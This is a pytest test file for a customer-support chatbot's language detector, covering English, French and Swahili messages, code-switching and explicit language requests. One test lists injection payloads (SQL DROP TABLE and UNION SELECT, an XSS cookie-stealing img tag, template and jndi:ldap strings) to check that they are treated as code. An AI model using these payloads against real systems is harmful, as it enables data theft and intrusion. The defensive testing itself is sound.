"""Language identification on the messages users really send, long and very short."""

import pytest
from rasa.shared.nlu.training_data.loading import load_data

from bot.components.language import (
    LanguageDetector,
    LanguageModel,
    detect,
    looks_like_code,
    requested_language,
)
from tests.conftest import ROOT


@pytest.fixture(scope="module")
def model() -> LanguageModel:
    examples = []
    for lang in ("en", "fr", "sw"):
        for example in load_data(str(ROOT / "data" / "nlu" / lang)).intent_examples:
            assert LanguageDetector.example_language(example) == lang, example.get("text")
            examples.append((example.get("text"), lang))
    return LanguageModel.from_examples(examples)


@pytest.mark.parametrize(
    "text, lang",
    [
        ("where is my order, it was supposed to arrive last week", "en"),
        ("ou est ma commande jai toujours rien recu", "fr"),
        ("oda yangu iko wapi mbona haijafika", "sw"),
        ("nataka ku-cancel order yangu", "sw"),
        ("jveux annuler ma cmd", "fr"),
        ("merci", "fr"),
        ("asante sana", "sw"),
        ("habari", "sw"),
        ("thanks a lot", "en"),
        ("bonjour", "fr"),
        ("oui", "fr"),
        ("sawa", "sw"),
        ("yes please", "en"),
        ("ndio", "sw"),
        ("cancel my order please", "en"),
        # code-switching: a loanword of another language does not veto the rest
        ("seller hajajibu cancel request yangu", "sw"),
        ("tracking number ya parcel yangu", "sw"),
        # Swahili grammar with English words is Swahili; Swahili greetings in English are English
        ("niko na issue with my order", "sw"),
        ("order yangu is not delivered yet", "sw"),
        ("hi, my order is late, naomba msaada", "sw"),
        ("I want a refund, the item imeharibika", "sw"),
        ("the goods reached me asante close my dispute", "en"),
        ("where is my refund sasa", "en"),
        # "ya" between two words is Swahili's possessive; "see ya" is English
        ("undo the cancellation ya order please", "sw"),
        ("status ya package please", "sw"),
        ("ok see ya later then", "en"),
        ("thank ya kindly for the help", "en"),
        ("i was in kenya last week, where is my order", "en"),
        ("le seller ne repond pas", "fr"),
        ("asante sana boss", "sw"),
        ("merci beaucoup boss", "fr"),
        ("refund yangu iko wapi", "sw"),
        ("ou est mon remboursement", "fr"),
    ],
)
def test_detects_language(model, text, lang):
    detected, confidence, signal = detect(text, model)
    assert (detected, signal) == (lang, True), confidence


@pytest.mark.parametrize("text", ["8170034500000003", "👍", "???", "", "   ", "ok", "0x1F", "%s%s%s%n"])
def test_no_signal_keeps_conversation_language(model, text):
    _, _, signal = detect(text, model)
    assert signal is False


@pytest.mark.parametrize(
    "text, conversation",
    [
        ("cancel order", "sw"),
        ("refund status", "sw"),
        ("cancel dispute", "sw"),
    ],
)
def test_borrowed_words_keep_the_conversation_language(model, text, conversation):
    """Nairobi users type English keywords inside Swahili conversations."""
    detected, _, signal = detect(text, model)
    assert (detected, signal) == ("en", True)  # alone, English is the best reading
    _, _, signal = detect(text, model, conversation=conversation)
    assert signal is False  # the server keeps the conversation's language


@pytest.mark.parametrize(
    "text, conversation, lang",
    [
        ("where is my order please", "sw", "en"),   # a real English sentence switches
        ("oda yangu iko wapi", "en", "sw"),
        ("annuler ma commande", "sw", "fr"),
    ],
)
def test_own_words_switch_the_conversation(model, text, conversation, lang):
    assert detect(text, model, conversation=conversation)[::2] == (lang, True)


@pytest.mark.parametrize("text", ["'; DROP TABLE orders; --", "1 UNION SELECT email FROM customers --",
                                  "<img src=x onerror=alert(document.cookie)>", "{{7*7}} ${jndi:ldap://x/a}"])
def test_code_keeps_the_conversation_language(model, text):
    """Injected SQL or script is English keywords, not a buyer switching to English."""
    assert looks_like_code(text)
    assert detect(text, model, conversation="fr")[2] is False


@pytest.mark.parametrize("text", ["where is my order; it never came", 'the tracking says "delivered" but nothing came',
                                  "WHERE IS MY ORDER I PAID AND NOTHING OR REFUND", "price = 5000 ksh?", "order 8170... -- urgent"])
def test_prose_with_a_symbol_is_not_code(text):
    assert not looks_like_code(text)


@pytest.mark.parametrize(
    "text, lang",
    [
        ("in english please", "en"),
        ("en francais stp", "fr"),
        ("kwa Kiswahili tafadhali", "sw"),
        ("parle anglais", "en"),
        ("naomba kiingereza", "en"),
        ("can we speak swahili", "sw"),
    ],
)
def test_explicit_language_requests(text, lang):
    assert requested_language(text) == lang


@pytest.mark.parametrize(
    "word, lang", [("nitakusubiri", "sw"), ("tutarudishiwa", "sw"), ("remboursements", "fr")]
)
def test_unknown_words_scored_by_character_ngrams(model, word, lang):
    assert word not in model.vocabulary
    scores = model.char_log_likelihoods(word)
    assert max(scores, key=scores.get) == lang


class _Tracker:
    def __init__(self, language):
        self.language = language

    def get_slot(self, name):
        return self.language if name == "language" else None


def _detector(model):
    from unittest.mock import MagicMock

    return LanguageDetector(LanguageDetector.get_default_config(), MagicMock(), MagicMock(), model)


@pytest.mark.parametrize("text", ["ok", "8170034500000003", "👍"])
def test_process_keeps_conversation_language_without_signal(model, text):
    from rasa.shared.nlu.training_data.message import Message

    message = Message(data={"text": text})
    _detector(model).process([message], _Tracker("sw"))
    assert (message.get("language"), message.get("language_signal")) == ("sw", False)


def test_process_follows_a_switch_mid_conversation(model):
    from rasa.shared.nlu.training_data.message import Message

    message = Message(data={"text": "bonjour, ou est ma commande"})
    _detector(model).process([message], _Tracker("sw"))
    assert (message.get("language"), message.get("language_signal")) == ("fr", True)
